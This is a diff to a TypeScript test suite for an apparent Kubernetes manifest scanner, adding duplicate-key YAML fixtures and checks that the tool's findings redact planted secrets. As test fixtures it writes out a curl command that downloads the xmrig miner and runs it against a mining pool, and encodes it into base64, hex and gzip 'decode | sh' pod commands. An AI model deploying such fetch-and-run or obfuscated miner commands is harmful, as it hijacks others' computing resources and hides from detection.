@@ -7,6 +7,7 @@
  */
 import assert from 'node:assert/strict';
 import { writeFileSync } from 'node:fs';
+import { gzipSync } from 'node:zlib';
 import { join } from 'node:path';
 import { after, describe, test } from 'node:test';
 import { unifiedDiff } from '../../src/fix/diff.js';
@@ -67,8 +68,70 @@ data:
   a: *${MARK}alias
 `;
 
+/** Keys written twice (block and flow env, a ConfigMap URL and flag): the parse-ambiguity evidence quotes both values. */
+const DUPLICATES = `apiVersion: v1
+kind: Pod
+metadata: {name: dup, namespace: ml}
+spec:
+  containers:
+  - name: c
+    image: nginx:1.25
+    env:
+    - name: DB_PASSWORD
+      value: "${MARK}-dup-1"
+      value: "${MARK}-dup-2"
+    - {value: "${MARK}-dup-3", name: API_TOKEN, value: "${MARK}-dup-4"}
+---
+apiVersion: v1
+kind: ConfigMap
+metadata: {name: c, namespace: ml}
+data:
+  conn: "postgres://u:${URL_PASSWORD}@h/x"
+  conn: "postgres://u:${URL_PASSWORD}2@h/x"
+  args: "--password=${MARK}-dup-flag"
+  args: "x"
+---
+apiVersion: v1
+kind: Service
+metadata: {name: centraldashboard, namespace: kubeflow}
+spec:
+  type: NodePort
+  selector: {app: centraldashboard}
+  ports: [{port: 80}]
+  x:
+  - name: DB_PASSWORD
+    value: "${MARK}-fix-1"
+    value: "${MARK}-fix-2"
+`;
+
+/** A miner fetched with a URL password, the command encoded three ways: an encoded sample decodes back to the password. */
+const PAYLOAD = `curl -s https://bob:${URL_PASSWORD}@files.example.com/xmrig -o /tmp/x; /tmp/x -o stratum+tcp://pool.minexmr.com:4444 --pass ${MARK}-pass`;
+const ENCODED = {
+  base64: Buffer.from(PAYLOAD).toString('base64'),
+  hex: Buffer.from(PAYLOAD).toString('hex'),
+  gzip: gzipSync(PAYLOAD).toString('base64'),
+};
+const ENCODED_PODS = (
+  [
+    ['b64', `echo ${ENCODED.base64} | base64 -d | sh`],
+    ['hex', `echo ${ENCODED.hex} | xxd -r -p | sh`],
+    ['gz', `echo ${ENCODED.gzip} | base64 -d | gunzip | sh`],
+  ] as const
+)
+  .map(([name, command]) => `apiVersion: v1
+kind: Pod
+metadata: {name: enc-${name}, namespace: ml}
+spec:
+  containers:
+  - name: main
+    image: tensorflow/tensorflow:latest
+    command: ["sh", "-c", "${command}"]
+`)
+  .join('---\n');
+
 function leaks(text: string): string[] {
-  return [MARK, BASE64].filter((planted) => text.includes(planted));
+  // An encoded payload's first characters are enough to decode the start of the password.
+  return [MARK, BASE64, ...Object.values(ENCODED).map((e) => e.slice(0, 12))].filter((planted) => text.includes(planted));
 }
 
 describe('planted secrets', () => {
@@ -77,6 +140,8 @@ describe('planted secrets', () => {
   writeFileSync(join(dir.path, 'service.yaml'), SERVICE);
   writeFileSync(join(dir.path, 'list.yaml'), LIST);
   writeFileSync(join(dir.path, 'broken.yaml'), BROKEN);
+  writeFileSync(join(dir.path, 'duplicates.yaml'), DUPLICATES);
+  writeFileSync(join(dir.path, 'encoded.yaml'), ENCODED_PODS);
 
   for (const format of Object.keys(FORMATTERS)) {
     test(`--format ${format} and stderr carry none of them`, async () => {
@@ -94,6 +159,29 @@ describe('planted secrets', () => {
     const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
     assert.ok(miner, 'the planted miner was not found; the test would prove nothing');
     assert.match(miner.evidence.join('\n'), /<redacted>@/);
+  });
+
+  test('the duplicate-key and encoded-payload findings are there, masked', async () => {
+    const run = await runCli(['scan', 'duplicates.yaml', 'encoded.yaml', '--format', 'json', '--fail-on', 'none'], { cwd: dir.path });
+    const report = JSON.parse(run.stdout) as { findings: { ruleId: string; resource: { name: string }; evidence: string[] }[] };
+    const ambiguity = report.findings.filter((f) => f.ruleId === 'manifest-parse-ambiguity').flatMap((f) => f.evidence).join('\n');
+    assert.match(ambiguity, /env\[0\]\.value the last reads a string \(value hidden\)/, ambiguity);
+    assert.match(ambiguity, /env\[1\]\.value the last reads a string \(value hidden\)/, ambiguity);
+    assert.match(ambiguity, /postgres:\/\/u:<redacted>@h\/x/, ambiguity);
+    assert.match(ambiguity, /--password=<redacted>/, ambiguity);
+    for (const name of ['enc-b64', 'enc-hex', 'enc-gz']) {
+      const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.resource.name === name);
+      assert.ok(miner, `the ${name} miner was not found; the test would prove nothing`);
+      assert.match(miner.evidence.join('\n'), /encoded sample not shown/, miner.evidence.join('\n'));
+    }
+  });
+
+  test('fix reports a document it cannot parse in one line, once, without its values', async () => {
+    const run = await runCli(['fix', 'duplicates.yaml', '--dry-run'], { cwd: dir.path });
+    assert.deepEqual(leaks(run.stdout + run.stderr), [], run.stdout + run.stderr);
+    const faults = (run.stdout + run.stderr).split('\n').filter((line) => line.includes('DUPLICATE_KEY'));
+    assert.deepEqual(faults.length, 1, run.stdout + run.stderr);
+    assert.match(faults[0] ?? '', /DUPLICATE_KEY at line 33, column 5$/);
   });
 
   test('fix --dry-run previews the edit and none of them', async () => {
